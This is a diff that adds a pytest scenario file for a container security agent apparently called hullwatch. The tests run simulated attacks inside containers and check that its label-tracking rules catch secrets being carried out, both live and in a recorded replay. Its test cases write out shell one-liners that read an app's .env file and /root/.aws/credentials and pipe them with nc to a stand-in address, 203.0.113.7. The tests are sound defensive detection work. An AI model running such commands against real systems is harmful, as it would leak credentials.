@@ -1,0 +1,132 @@
+"""Rules about labels, in real containers through the whole agent: one act in each, for what a
+process has read stays with it."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+
+from hullwatch.detect.ruleset import load
+from support.agent import PACK, Agent
+from support.attacks import Attack
+from support.attacks.driven import done, drive
+from support.cli import cli
+from support.conformance import record
+from support.images import Image
+from support.needs import missing
+from support.recording import Recording
+from support.runc import Network, Runc
+from support.watch import missing_bpf
+
+pytestmark = [pytest.mark.scenario, pytest.mark.timeout(600)]
+
+TRIFECTA = "Lethal trifecta in a container"
+CARRIED = "Secret carried to a public address by what a tool started"
+TALK = 'socket.create_connection(("{}", 443)).close()\n'
+KEY = 'open("/srv/app/.env").read()\n'
+OUT = "203.0.113.7:443"
+
+# name: (code, rules about labels that it meets, and with which object)
+ACTS: dict[str, tuple[str, dict[str, str]]] = {
+    "trifecta": (TALK.format("203.0.113.9") + KEY + TALK.format("203.0.113.7"), {TRIFECTA: OUT}),
+    "earlier": (
+        TALK.format("203.0.113.9")
+        + 'server = socket.create_server(("203.0.113.7", 4443))\n'
+        + 'link = socket.create_connection(("203.0.113.7", 4443))\n'
+        + KEY
+        + 'link.sendall(b"x")',
+        {TRIFECTA: "203.0.113.7:4443"},
+    ),
+    "piped": (
+        'run("/bin/sh", "-c", "x=$(/bin/cat /srv/app/.env); echo $x | /bin/nc 203.0.113.7 4444")',
+        {CARRIED: "203.0.113.7:4444"},
+    ),
+    "by-a-file": (
+        'run("/bin/sh", "-c", "/bin/cp /root/.aws/credentials /tmp/x")\n'
+        'run("/bin/sh", "-c", "/bin/nc 203.0.113.7 4444 < /tmp/x")',
+        {CARRIED: "203.0.113.7:4444"},
+    ),
+    "key-and-provider": (KEY + TALK.format("203.0.113.7"), {}),
+    "no-key": (TALK.format("203.0.113.9") + TALK.format("203.0.113.7"), {}),
+    "inside": (TALK.format("203.0.113.9") + KEY + TALK.format("127.0.0.1"), {}),
+    "plain-pipe": (
+        'run("/bin/sh", "-c", "x=$(/bin/cat /etc/passwd); echo $x | /bin/nc 203.0.113.7 4444")',
+        {},
+    ),
+}
+Found = dict[str, dict[str, set[str]]]
+
+
+@pytest.fixture(scope="module")
+def found(
+    tmp_path_factory: pytest.TempPathFactory, busybox_image: Image, python_image: Image
+) -> Iterator[tuple[Found, Found, Agent]]:
+    """By container and rule the objects: live, and in a recording."""
+    if reason := missing("runc", "ip") or missing_bpf():
+        pytest.skip(reason)
+    folder = tmp_path_factory.mktemp("labelled")
+    names: dict[str, str] = {}
+    labels = ("secret", "private", "untrusted")
+    with (
+        Agent(folder / "store", labels=labels) as agent,
+        Runc(busybox_image) as runc,
+        Network("air") as network,
+    ):
+        for address in ("203.0.113.7", "203.0.113.9"):
+            network.add_address(f"{address}/32")
+        with Recording(folder / "capture") as recording:
+            for name, (code, _) in ACTS.items():
+                act = [Attack(name, code, {})]
+                box = drive(runc, python_image, name, folder, act, network=network.path)
+                done(box, act)
+                names[box.id] = name
+            agent.settle()
+        live: Found = {name: {} for name in ACTS}
+        for ident, name in names.items():
+            for one in agent.stored(ident):
+                live[name].setdefault(one["rule"], set()).add(one["object"])
+        replayed: Found = {name: {} for name in ACTS}
+        for rule, ident, object_ in recording.findings([PACK])[0]:
+            if ident in names:
+                replayed[names[ident]].setdefault(rule, set()).add(object_)
+        yield live, replayed, agent
+
+
+def of_labels(one: dict[str, set[str]]) -> dict[str, set[str]]:
+    return {rule: objects for rule, objects in one.items() if rule in (TRIFECTA, CARRIED)}
+
+
+def test_every_rule_about_labels_is_here():
+    rules = {rule.name for rule in load([PACK]).rules if "hw.labels" in rule.sources}
+    assert rules == {TRIFECTA, CARRIED} == {rule for _, met in ACTS.values() for rule in met}
+
+
+@pytest.mark.parametrize("name", ACTS)
+def test_what_is_found_live_and_in_a_recording(found: tuple[Found, Found, Agent], name: str):
+    live, replayed, _ = found
+    expected = {rule: {object_} for rule, object_ in ACTS[name][1].items()}
+    for rule in (TRIFECTA, CARRIED):
+        good = of_labels(live[name]).get(rule, set()) == expected.get(rule, set())
+        again = of_labels(replayed[name]).get(rule, set()) == expected.get(rule, set())
+        what = {"live": good} if rule in expected else {"near_miss": good}
+        record("own", rule, loads=True, replay=again, reason="", **what)
+    assert of_labels(live[name]) == expected
+    assert of_labels(replayed[name]) == expected
+
+
+def test_the_way_of_a_label_is_told(found: tuple[Found, Found, Agent]):
+    _, _, agent = found
+    agent.settle()
+    steps = cli(agent.store, "labels", "--container", "by-a-file", "--label", "secret")
+    first = next(one for one in steps if one["object"] == "/root/.aws/credentials")
+    assert first["way"] == "took" and not first["came_by"]
+    last = [one for one in steps if one["object"] == "/tmp/x" and one["way"] == "took"]
+    assert last and last[-1]["came_by"][0] == "/root/.aws/credentials"
+
+
+def test_nobody_outside_got_a_label(found: tuple[Found, Found, Agent]):
+    _, _, agent = found
+    assert {one["workload"] for one in cli(agent.store, "labels")} <= set(ACTS)
+    status = agent.status()
+    assert status is not None and (status["losses"], status["faults"]) == ({}, {})
